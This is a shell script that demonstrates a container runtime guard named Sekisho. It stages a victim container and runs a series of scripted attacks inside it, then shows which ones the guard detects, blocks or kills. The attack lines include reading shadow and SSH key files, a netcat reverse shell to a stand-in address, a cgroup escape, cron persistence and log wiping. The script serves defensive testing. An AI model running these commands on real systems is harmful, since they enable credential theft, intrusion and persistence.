#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A container attacks, the guard answers. On a fresh Debian, as root:
#
#	tools/demo-guard.sh
#
# installs what is needed, builds, starts a container engine of its own (Docker,
# or podman where there is no Docker) and a guard with the rules that ship with
# Sekisho, does one attack after the other in a container, and shows beside each
# what the guard said and did. It touches no other container, and an agent that
# runs already does not mind. Nothing stays but the packages and the build.
# Ends with 0 if every attack was seen and those that are to be stopped were.
#
# SEKISHO is the program if it is not to be built, SK_BUILD the folder of the
# build (default: build-release here), SK_ENGINE docker or podman.
set -eu
top=$(cd "$(dirname "$0")/.." && pwd)
. "$top/tools/packages.sh"
build=${SK_BUILD:-$top/build-release}

[ "$(id -u)" = 0 ] || { echo "The guard watches the kernel, which needs root: sudo $0" >&2; exit 1; }
[ -r /sys/kernel/btf/vmlinux ] || { echo "This kernel has no BTF (/sys/kernel/btf/vmlinux); the guard needs it." >&2; exit 1; }
bold='' red='' green='' dim='' off=''
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
	bold=$(printf '\033[1m') red=$(printf '\033[31m') green=$(printf '\033[32m') dim=$(printf '\033[2m') off=$(printf '\033[0m')
fi
tab=$(printf '\t')

say() {
	printf '\n%s== %s%s\n' "$bold" "$*" "$off"
}
give_up() {
	echo "$*" >&2
	exit 1
}

dir=$(cd "$(mktemp -d)" && pwd -P)
guard='' daemon='' engine=''
clean() {
	trap '' INT TERM
	[ -z "$engine" ] || $engine rm -f shop >/dev/null 2>&1 || true
	[ -z "$guard" ] || kill "$guard" 2>/dev/null || true
	[ -z "$daemon" ] || kill "$daemon" 2>/dev/null || true
	wait 2>/dev/null || true
	rm -rf "$dir"
}
trap clean EXIT
trap 'exit 1' INT TERM

# until_true COMMAND...: a slow machine may take its time
until_true() {
	for _ in $(seq 600); do
		"$@" && return 0
		sleep 0.2
	done
	return 1
}

# ---- what is needed ----

# Docker if it is here or can be had, else podman.
choose_engine() {
	case ${SK_ENGINE:-} in
	docker | podman) kind=$SK_ENGINE ;;
	'')
		kind=docker
		if ! command -v dockerd >/dev/null && { command -v podman >/dev/null || ! need docker.io; }; then
			kind=podman
		fi
		;;
	*) give_up "SK_ENGINE is docker or podman" ;;
	esac
	[ $kind = docker ] || need podman
}

build_sekisho() {
	[ -f "$build/build.ninja" ] || meson setup --buildtype=release "$build" "$top" >/dev/null
	ninja --quiet -C "$build" src/cmd/sekisho
	sekisho=$build/src/cmd/sekisho
}

# ---- the engine, and the image of the victim ----

start_docker() {
	export DOCKER_HOST="unix://$dir/docker.sock"
	engine=docker
	dockerd --iptables=false --ip6tables=false --bridge=none --data-root "$dir/data" --exec-root "$dir/exec" \
		--pidfile "$dir/pid" -H "$DOCKER_HOST" >"$dir/docker-log" 2>&1 &
	daemon=$!
	answers() { docker version >/dev/null 2>&1 || ! kill -0 "$daemon" 2>/dev/null; }
	until_true answers
	docker version >/dev/null 2>&1 || give_up "dockerd did not start: $(tail -n 1 "$dir/docker-log")"
}

start_podman() {
	engine="podman --root $dir/data --runroot $dir/exec --tmpdir $dir/tmp --cgroup-manager cgroupfs"
	$engine info >/dev/null || give_up "podman does not work here"
}

# A shell and small tools, and the files that attackers look for.
make_image() {
	root=$dir/root
	mkdir -p "$root/bin" "$root/etc" "$root/tmp" "$root/dev" "$root/proc" "$root/sys" "$root/root/.ssh" "$root/var/log"
	for part in /bin/sh $(ldd /bin/sh | grep -oE '/[^ ]+'); do
		mkdir -p "$root$(dirname "$part")"
		cp -L "$part" "$root$part"
	done
	cp "$(command -v busybox)" "$root/bin/busybox"
	for applet in $(busybox --list); do
		[ -e "$root/bin/$applet" ] || ln -s busybox "$root/bin/$applet"
	done
	echo 'root:x:0:0:root:/root:/bin/sh' >"$root/etc/passwd"
	# shellcheck disable=SC2016 # as it stands in such files
	echo 'root:$6$secret:19000:0:99999:7:::' >"$root/etc/shadow"
	echo 'a private key' >"$root/root/.ssh/id_ed25519"
	echo 'who did what' >"$root/var/log/auth.log"
	tar -C "$root" -c . | $engine import - shop:1.0 >/dev/null 2>&1 || give_up "the image cannot be imported"
}

# Addresses of the documentation (RFC 5737) stand for the attacker's; all of them are the container itself.
start_shop() {
	$engine run -d --name shop --network none --ulimit nofile=512:512 --ulimit nproc=512:512 --cap-add SYS_ADMIN --cap-add NET_ADMIN shop:1.0 /bin/sh -c '
		ip addr add 203.0.113.66/24 dev lo; ip addr add 169.254.169.254/32 dev lo; ip link set lo up
		(while :; do nc -l -p 80 </dev/null; done) & while :; do nc -l -p 4444 </dev/null; done' >"$dir/said" 2>&1 ||
		give_up "containers do not run here: $(tail -n 1 "$dir/said")"
}

# ---- the guard ----

configure() {
	cat <<-END
		state: $dir/state
		runtime: $dir/run
		all: true
		rules: [$dir/rules]
		outputs:
		  - kind: stdout
		    format: json
		drift:
		  keep: false
		  entries:
		    - images: ["shop:*", "*/shop:*"]
		      mode: block
		protect:
		  addresses: ["203.0.113.99:14444"]
		responses:
		  docker: $dir/docker.sock
		  entries:
		    - priority: critical
		      images: ["shop:*", "*/shop:*"]
		      actions: [kill-tree]
		      limit: 100/1m
	END
}

start_guard() {
	mkdir -p "$dir/rules" "$dir/state" "$dir/run"
	chmod 700 "$dir/state" "$dir/run"
	cp "$top"/rules/runtime/*.yaml "$dir/rules"
	configure >"$dir/guard.yaml"
	"$sekisho" guard run --config "$dir/guard.yaml" >"$dir/alerts" 2>"$dir/guard-log" &
	guard=$!
	ready() { grep -q watching "$dir/guard-log" || ! kill -0 "$guard" 2>/dev/null; }
	until_true ready
	kill -0 "$guard" 2>/dev/null || give_up "The guard does not run here: $(cat "$dir/guard-log")"
}

ask_guard() {
	"$sekisho" guard status --format json --socket "$dir/run/guard.sock"
}

# What the guard has tried here, and what came of it.
show_protections() {
	ask_guard | jq -r '.protections[] | select(.name | test("drift|addresses")) |
		"   \(.state | ascii_upcase | (. + "        ")[:8]) \(.name)"'
}

shop_is_known() { ask_guard | jq -e '.containers[] | select(.name == "shop" and .drift == "block")' >/dev/null; }

# ---- attacks ----

# alerts_from LINE FILTER: the alerts about our container from that line on, as the filter of jq shows them
alerts_from() {
	tail -n "+$1" "$dir/alerts" | jq -r "select(.container.name == \"shop\") | $2"
}
rules_from() {
	alerts_from "$1" 'select(.message) | [.priority, .rule, (.tags | map(select(test("^T[0-9]"))) | join(" "))] | @tsv' |
		sort -u -t "$tab" -k2,2
}
killed_from() {
	alerts_from "$1" 'select(.type == "response" and .outcome == "done") | .microseconds / 1000' | head -n 1
}

attacks=0 seen=0 blocked=0 killed=0 missed=''
# attack WHAT EXPECTED COMMAND: does it in the container, and shows what the guard said and did. EXPECTED is seen, blocked
# (the attack itself fails) or killed.
attack() {
	what=$1 expected=$2 command=$3
	attacks=$((attacks + 1))
	from=$(($(wc -l <"$dir/alerts") + 1))
	printf '\n%s%2d. %s%s\n    %s$ %s%s\n' "$bold" "$attacks" "$what" "$off" "$dim" "$command" "$off"
	# It says so if it came to its end.
	$engine exec shop /bin/sh -c "$command" </dev/null >"$dir/said" 2>&1 && ended=well || ended=badly
	sed -n '1s/^/    /p' "$dir/said"
	answered() {
		[ -n "$(rules_from "$from")" ] && { [ "$expected" != killed ] || [ -n "$(killed_from "$from")" ]; }
	}
	for _ in $(seq 100); do
		answered && break
		sleep 0.1
	done
	judge
}

judge() {
	if [ -z "$(rules_from "$from")" ]; then
		missed="$missed $attacks"
		printf '    the guard said nothing\n'
		return
	fi
	seen=$((seen + 1))
	rules_from "$from" | while IFS=$tab read -r priority rule technique; do
		printf '    %sSEEN     %s%s (%s)  %sATT&CK %s%s\n' "$red" "$rule" "$off" "$priority" "$dim" "$technique" "$off"
	done
	case $expected in
	blocked)
		if [ $ended = badly ]; then
			blocked=$((blocked + 1))
			printf '    %sBLOCKED  it could not begin%s\n' "$green" "$off"
			return
		fi
		;;
	killed)
		milliseconds=$(killed_from "$from")
		if [ -n "$milliseconds" ]; then
			killed=$((killed + 1))
			printf '    %sKILLED   with all it had started, %s ms after the event%s\n' "$green" "$milliseconds" "$off"
			return
		fi
		;;
	*) return ;;
	esac
	missed="$missed $attacks"
	printf '    %sit should have been %s%s\n' "$red" "$expected" "$off"
}

say "What is needed"
# shellcheck disable=SC2086 # a list of words
need $packages_demo
choose_engine
if [ -n "${SEKISHO:-}" ]; then
	sekisho=$SEKISHO
else
	# shellcheck disable=SC2086 # a list of words
	need $packages_build
	say "Build"
	build_sekisho
fi
"$sekisho" version | grep -q '^sensor *built in' || give_up "$sekisho was built without the sensor: clang, bpftool or libbpf was missing"

say "The stage"
start_$kind
make_image
cat <<END
A shop runs in a container ($kind, image shop:1.0). Somebody has got a shell in it. Whatever he does next, the guard watches
from outside, with $(cat "$top"/rules/runtime/*.yaml | grep -c '^- rule:') rules. It was told to block programs that are not in the image, and to kill what raises a
critical alert. Only that container is treated so.
END
start_guard
start_shop
until_true shop_is_known || give_up "the guard does not know the container"
echo
echo "What it prevents was tried on this machine first:"
show_protections

say "The attack"
attack "He reads the password hashes" seen 'cat /etc/shadow >/dev/null'
attack "looks for private keys, and takes one" seen 'find / -xdev -name "id_*" -path "*ssh*"; cat /root/.ssh/id_ed25519 >/dev/null'
attack "asks the cloud for the node's credentials" seen 'wget -q -O - http://169.254.169.254/latest/meta-data/'
attack "brings a program of his own and runs it" blocked \
	'{ cat /bin/sh; echo; } >/tmp/update; chmod 755 /tmp/update; /tmp/update -c "echo it runs"'
attack "lets a shell call home" killed 'nc 203.0.113.66 4444 -e /bin/sh'
attack "digs for coins" killed '/bin/sh -c "sleep 60; : -o stratum+tcp://pool.example.com:14444"'
attack "tries to leave by the release agent of cgroups" killed 'mkdir -p /tmp/cgroup; echo /tmp/update >/tmp/cgroup/release_agent; sleep 60'
attack "wants his coins in a pool that the guard was told of" blocked 'nc -w 1 203.0.113.99 14444'
attack "mounts what he likes" seen 'mkdir -p /tmp/m; mount -t tmpfs none /tmp/m'
attack "will come back with the next start" seen 'mkdir -p /etc/cron.d; echo "* * * * * root /tmp/update" >/etc/cron.d/update'
attack "leaves a program that gives root to everybody" seen 'cp /bin/busybox /tmp/suid; chmod 4755 /tmp/suid'
attack "and wipes the traces" seen 'rm /var/log/auth.log; : >/root/.ash_history'

say "One of these alerts in full, as a receiver gets it"
jq -n 'first(inputs | select(.container.name == "shop" and .rule == "Program that is not of the image" and .message))' "$dir/alerts"

say "How to see more"
cat <<END
Docs              docs/guard.md: what is seen, what is blocked where, and what is not seen
Live              $sekisho guard events
As a service      meson install -C $build && systemctl enable --now sekisho-guard; sekisho guard status
Its settings      $sekisho guard config
END

say "Verdict"
kill "$guard" && wait "$guard" || true
guard=''
printf '%d attacks: %d seen, of these %d blocked and %d killed. ' "$attacks" "$seen" "$blocked" "$killed"
if [ -n "$missed" ]; then
	printf '%sThe guard failed at:%s.%s\n' "$red" "$missed" "$off"
	exit 1
fi
printf '%sThe guard did all that it was told to.%s\n' "$green" "$off"
